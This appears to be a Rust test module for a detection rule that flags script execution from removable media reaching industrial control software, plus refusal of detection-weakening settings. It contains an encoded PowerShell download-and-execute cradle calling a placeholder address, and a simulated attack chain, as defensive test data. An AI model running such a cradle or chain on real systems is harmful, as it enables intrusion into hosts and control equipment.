//! One test for each sentence of the crate's documentation.

mod benign;
mod enablement;
mod runs;

use sandtrap_sdk::{
    Finding, Severity, class, field,
    testing::{self, TestEvent, World, event, launch},
};
use serde_json::{Value, json};

use super::An1925;

const EXPLORER: &str = r"C:\Windows\explorer.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const EXECUTION_POLICY: &str =
    r"HKLM\SOFTWARE\Microsoft\PowerShell\1\ShellIds\Microsoft.PowerShell\ExecutionPolicy";
const WSH_ENABLED: &str = r"HKLM\SOFTWARE\Microsoft\Windows Script Host\Settings\Enabled";

/// 2024-01-01, a Monday, at noon UTC.
const NOON: i64 = 1_704_110_400_000;
const HOUR: i64 = 60 * 60 * 1000;

/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')` in UTF-16 and base64.
const CRADLE: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1AC8AYQAnACkA";

fn run(events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    at_site(json!({}), events)
}

fn at_site(site: Value, events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    testing::run::<An1925>(World::new(), json!({}), site, events)
}

/// A launch with its parent's path, as Sysmon reports it.
fn start(process: u64, image: &str, line: &str, parent: u64, parent_image: &str) -> TestEvent {
    launch(process)
        .image(image)
        .command_line(line)
        .child_of(parent)
        .set(field::PROCESS_PARENT_PROCESS_FILE_PATH, parent_image)
        .set(field::PROCESS_WORKING_DIRECTORY, r"C:\Users\ann\Desktop\")
        .user(r"CORP\ann")
}

fn set_value(process: u64, image: &str, path: &str, data: &str) -> TestEvent {
    event(class::REGISTRY_VALUE)
        .by(process)
        .set(field::ACTOR_PROCESS_FILE_PATH, image)
        .set(field::REG_TARGET_PATH, path)
        .set(field::REG_TARGET_DATA, data)
        .set(field::REG_TARGET_OPERATION, "SetValue")
}

fn stages(finding: &Finding) -> Vec<&str> {
    finding
        .stages
        .iter()
        .map(|stage| stage.name.as_str())
        .collect()
}

#[test]
fn the_description_and_the_defaults_are_acceptable() {
    testing::check::<An1925>();
}

#[test]
fn settings_that_blind_or_deafen_are_refused() {
    for (settings, word) in [
        (json!({ "AlertThreshold": 0 }), "AlertThreshold"),
        (json!({ "EnableToRunWindow": 0 }), "EnableToRunWindow"),
        (json!({ "IcsScriptableApps": ["*"] }), "IcsScriptableApps"),
        (
            json!({ "IcsScriptableApps": ["*.exe"] }),
            "IcsScriptableApps",
        ),
        (
            json!({ "ApprovedDownloadHosts": [""] }),
            "ApprovedDownloadHosts",
        ),
        (json!({ "LearningDays": 0 }), "LearningDays"),
        (json!({ "Threshold": 1 }), "Threshold"),
    ] {
        let reason = testing::refusal::<An1925>(settings.clone(), json!({}));
        assert!(
            reason.is_some_and(|reason| reason.contains(word)),
            "{settings}"
        );
    }
}

#[test]
fn a_disc_image_that_has_the_control_system_run_a_script_is_found() {
    let found = at_site(
        json!({ "asset_roles": [{ "device": "*", "role": "hmi" }] }),
        [
            start(2, WSCRIPT, r#"wscript.exe "D:\lun.vbs""#, 1, EXPLORER).at(NOON),
            start(3, CMD, r#"cmd.exe /c "D:\pack\n.bat""#, 2, WSCRIPT),
            start(
                4,
                r"C:\sc\prog\exec\scilc.exe",
                r"C:\sc\prog\exec\scilc.exe -do pack\scil\s1.txt",
                3,
                CMD,
            )
            .set(
                field::PROCESS_PARENT_PROCESS_CMD_LINE,
                r#"cmd.exe /c "D:\pack\n.bat""#,
            ),
            event(class::NETWORK_OPEN)
                .by(4)
                .set(field::CONNECTION_INFO_OUTBOUND, 1)
                .set(field::DST_ENDPOINT_IP, "10.20.0.7")
                .set(field::DST_ENDPOINT_PORT, 2404),
        ],
    );
    let last = found.last().unwrap();
    assert_eq!(last.severity, Severity::Critical);
    assert_eq!(last.process, Some(2));
    assert!(
        found.iter().all(|finding| finding.process == Some(2)),
        "{found:#?}"
    );
    for stage in [
        "run.removable",
        "proxy.ics-script",
        "proxy.ics-odd-parent",
        "effect.controller",
        "asset.role",
    ] {
        assert!(stages(last).contains(&stage), "{stage}: {last:#?}");
    }
    assert!(
        last.title
            .starts_with("wscript.exe, started by explorer.exe: "),
        "{}",
        last.title
    );
}
